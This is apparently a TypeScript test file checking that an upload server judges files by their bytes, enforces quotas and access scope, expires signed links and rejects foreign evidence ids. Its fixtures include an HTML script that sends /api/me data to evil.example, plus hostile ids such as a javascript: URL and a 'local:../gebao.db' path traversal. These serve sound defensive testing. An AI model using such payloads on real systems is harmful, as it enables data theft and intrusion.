import { existsSync, readdirSync } from 'node:fs'
import { join } from 'node:path'
import { MB } from '../../../src/core/evidence/files'
import { clientId, COMMUNITY_REVIEWER, fingerprint, GRID_WORKER, GRID_WORKER_UNIT, OTHER_GRID_WORKER, startServer, STREET_REVIEWER, type Running } from '../harness'

// The smallest valid PNG: one transparent pixel.
const PNG = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII=', 'base64')
const PDF = Buffer.from('%PDF-1.4\n%\u00e2\u00e3\n1 0 obj\n<<>>\nendobj\ntrailer\n<<>>\n%%EOF\n', 'latin1')
const HTML = Buffer.from('<!doctype html><html><body><script>fetch("/api/me").then(r=>r.text()).then(t=>location="https://evil.example/?"+t)</script></body></html>')

/** A PNG of `bytes` bytes: the real header, then padding (file-type reads the header). */
const pngOf = (bytes: number) => Buffer.concat([PNG, Buffer.alloc(Math.max(0, bytes - PNG.length))])

describe('fault 6: uploads are judged by their bytes, limited per person, scoped and expiring', () => {
  let s: Running
  beforeAll(async () => {
    s = await startServer(undefined, { uploadLimits: { maxFileBytes: 64 * 1024, maxMonthBytesPerPerson: 200 * 1024, maxQueuedBytes: 100 * MB }, orphanGraceMs: 30 * 86400_000 })
  })
  afterAll(async () => {
    await s.stop()
  })

  const upload = async (bytes: Buffer, type: string, filename: string, who: string | null = GRID_WORKER) => {
    const form = new FormData()
    form.append('file', new Blob([new Uint8Array(bytes)], { type }), filename)
    const res = await fetch(`${s.base}/api/upload`, { method: 'POST', body: form, headers: who ? { authorization: `Bearer ${s.tokenFor(who)}` } : {} })
    return { status: res.status, body: (await res.json()) as any }
  }
  const get = (path: string, who: string | null = null) => fetch(`${s.base}${path}`, { headers: who ? { authorization: `Bearer ${s.tokenFor(who)}` } : {} })
  const fileOf = (id: string) => id.slice('local:'.length)
  const stored = () => readdirSync(join(s.dataDir, 'uploads')).length

  test('an HTML page declared image/png is refused, and nothing is stored', async () => {
    const before = { files: stored(), db: await fingerprint(s) }
    const res = await upload(HTML, 'image/png', 'photo.png')
    expect(res.status).toBe(400)
    expect(res.body.error.message).toContain('只能上传照片')
    expect({ files: stored(), db: await fingerprint(s) }).toEqual(before)
  })

  test('the bytes decide the type: a PNG declared text/html is stored and served as image/png, with nosniff', async () => {
    const res = await upload(PNG, 'text/html', 'x.html')
    expect(res.body).toMatchObject({ ok: true, data: { name: '现场照片', kind: 'image' } })
    expect(res.body.data.id).toMatch(/^local:[0-9a-f-]{36}\.png$/)
    const file = await get(`/files/${fileOf(res.body.data.id)}`, GRID_WORKER)
    expect(file.status).toBe(200)
    expect(file.headers.get('content-type')).toBe('image/png')
    expect(file.headers.get('x-content-type-options')).toBe('nosniff')
    expect(file.headers.get('content-disposition')).toMatch(/^inline/)
  })

  test('a document (PDF) is accepted and served as an attachment', async () => {
    const res = await upload(PDF, 'application/pdf', '台账.pdf')
    expect(res.body.data).toMatchObject({ kind: 'file' })
    const file = await get(`/files/${fileOf(res.body.data.id)}`, GRID_WORKER)
    expect(file.headers.get('content-type')).toBe('application/pdf')
    expect(file.headers.get('content-disposition')).toMatch(/^attachment/)
  })

  test('per file: over the limit is refused with the limit in the message', async () => {
    const res = await upload(pngOf(64 * 1024 + 1), 'image/png', 'big.png', STREET_REVIEWER)
    expect(res.status).toBe(400)
    expect(res.body.error.message).toMatch(/文件太大/)
  })

  test('per person and month: the quota stops one person, not the next', async () => {
    const person = 'u-grid-2'
    const sizes = [60, 60, 60, 60].map((k) => k * 1024)
    const results = []
    for (const n of sizes) results.push(await upload(pngOf(n), 'image/png', 'p.png', person))
    expect(results.map((r) => r.status)).toEqual([200, 200, 200, 400])
    expect(results[3].body.error.message).toMatch(/本月上传已达/)
    expect((await upload(pngOf(60 * 1024), 'image/png', 'p.png', OTHER_GRID_WORKER)).status).toBe(200)
  })

  test('per person and month, at once: parallel uploads cannot together pass the quota (the check and the record are one step)', async () => {
    // 200 KB a month: three of four 60 KB files fit, whichever order they land in.
    const person = COMMUNITY_REVIEWER
    const results = await Promise.all([0, 1, 2, 3].map(() => upload(pngOf(60 * 1024), 'image/png', 'p.png', person)))
    expect(results.map((r) => r.status).sort()).toEqual([200, 200, 200, 400])
    expect(results.find((r) => r.status === 400)!.body.error.message).toMatch(/本月上传已达/)
    const ids = results.filter((r) => r.status === 200).map((r) => fileOf(r.body.data.id))
    expect(ids.every((id) => existsSync(join(s.dataDir, 'uploads', id)))).toBe(true)
  })

  test('served only in scope: no session, another grid → the same 404 as no file; the community above → the file', async () => {
    const { body } = await upload(PNG, 'image/png', 'a.png')
    const path = `/files/${fileOf(body.data.id)}`
    const missing = await get('/files/00000000-0000-4000-8000-000000000000.png', GRID_WORKER)
    const anonymous = await get(path)
    const other = await get(path, OTHER_GRID_WORKER)
    expect([missing.status, anonymous.status, other.status]).toEqual([404, 404, 404])
    const bodies = await Promise.all([missing, anonymous, other].map((r) => r.text()))
    expect(new Set(bodies).size).toBe(1)
    expect((await get(path, COMMUNITY_REVIEWER)).status).toBe(200)
  })

  test('a short-lived signed link serves the file without a session, only for callers in scope, and expires', async () => {
    const { body } = await upload(PNG, 'image/png', 'a.png')
    const ask = (who: string) =>
      fetch(`${s.base}/api/files.link`, { method: 'POST', headers: { 'content-type': 'application/json', authorization: `Bearer ${s.tokenFor(who)}` }, body: JSON.stringify({ ids: [body.data.id, 'local:00000000-0000-4000-8000-000000000000.png'] }) }).then(
        (r) => r.json() as Promise<any>
      )
    const mine = await ask(COMMUNITY_REVIEWER)
    expect(Object.keys(mine.data.links)).toEqual([body.data.id])
    expect((await ask(OTHER_GRID_WORKER)).data.links).toEqual({})
    const url = mine.data.links[body.data.id].url as string
    expect(url).toMatch(/^\/files\/.+\?exp=\d+&sig=/)
    const viaLink = await get(url)
    expect(viaLink.status).toBe(200)
    expect(Buffer.from(await viaLink.arrayBuffer()).equals(PNG)).toBe(true)
    // A signature with its first character changed (to one it is not) is refused.
    expect((await get(url.replace(/sig=(.)/, (_m, c: string) => `sig=${c === 'A' ? 'B' : 'A'}`))).status).toBe(404)
    expect((await get(url.replace(/\/files\/[^?]+/, `/files/${fileOf((await upload(PNG, 'image/png', 'b.png')).body.data.id)}`))).status).toBe(404)
    const at = s.clock.now()
    s.clock.set(new Date(at.getTime() + 11 * 60_000).toISOString())
    expect((await get(url)).status).toBe(404)
    s.clock.set(at.toISOString())
  })

  test('orphans (no report names them) go after the grace period; attached files stay', async () => {
    const orphan = (await upload(PNG, 'image/png', 'o.png', STREET_REVIEWER)).body.data.id
    const kept = (await upload(PNG, 'image/png', 'k.png', STREET_REVIEWER)).body.data.id
    const report = await s.call(
      'submit',
      { report: { clientId: clientId('orph'), indicatorCode: 'SW-AID', orgUnitId: 'qk-s11', period: '2020-Q4', values: { temp_aided: 1, temp_needed: 1 }, evidence: [{ id: kept, name: '照片' }] } },
      s.tokenFor(STREET_REVIEWER)
    )
    expect(report.body.ok).toBe(true)
    expect(await s.server.sweepUploads()).toBe(0)
    const at = s.clock.now()
    s.clock.set(new Date(at.getTime() + 31 * 86400_000).toISOString())
    expect(await s.server.sweepUploads()).toBeGreaterThanOrEqual(1)
    expect(existsSync(join(s.dataDir, 'uploads', fileOf(orphan)))).toBe(false)
    expect(await s.server.store.getUpload(fileOf(orphan))).toBeNull()
    expect(existsSync(join(s.dataDir, 'uploads', fileOf(kept)))).toBe(true)
    s.clock.set(at.toISOString())
  })
})

describe('fault 7: evidence ids only name files of this install', () => {
  let s: Running
  beforeAll(async () => {
    s = await startServer()
  })
  afterAll(async () => {
    await s.stop()
  })
  const submit = (evidence: unknown[], who = GRID_WORKER, orgUnitId = GRID_WORKER_UNIT) =>
    s.call('submit', { report: { clientId: clientId('ev'), indicatorCode: 'YL-133', orgUnitId, period: '2020-12', values: { canteens: 1 }, evidence } }, s.tokenFor(who))
  const uploadAs = async (who: string) => {
    const form = new FormData()
    form.append('file', new Blob([PNG], { type: 'image/png' }), 'a.png')
    const res = await fetch(`${s.base}/api/upload`, { method: 'POST', body: form, headers: { authorization: `Bearer ${s.tokenFor(who)}` } })
    return ((await res.json()) as any).data.id as string
  }

  test.each([
    ['an outside URL', 'https://evil.example/track.png'],
    ['a protocol-relative URL', '//evil.example/x.png'],
    ['a javascript: URL', 'javascript:alert(1)'],
    ['a local id never uploaded', 'local:00000000-0000-4000-8000-000000000000.png'],
    ['a path out of the upload folder', 'local:../gebao.db'],
    ['a cloud file id (no cloud here)', 'cloud://other-env.1234/evil.png']
  ])('%s is refused, nothing stored', async (_n, id) => {
    const before = await fingerprint(s)
    const res = await submit([{ id, name: '照片' }])
    expect(res.status).toBe(400)
    expect(res.body.error).toMatchObject({ code: 'BAD_INPUT', message: expect.stringContaining('附件无效') })
    expect(await fingerprint(s)).toBe(before)
  })

  test('another grid’s upload cannot be attached; one’s own can', async () => {
    const theirs = await uploadAs(OTHER_GRID_WORKER)
    expect((await submit([{ id: theirs, name: '照片' }])).status).toBe(400)
    const mine = await uploadAs(GRID_WORKER)
    expect((await submit([{ id: mine, name: '照片' }])).body.ok).toBe(true)
  })
})
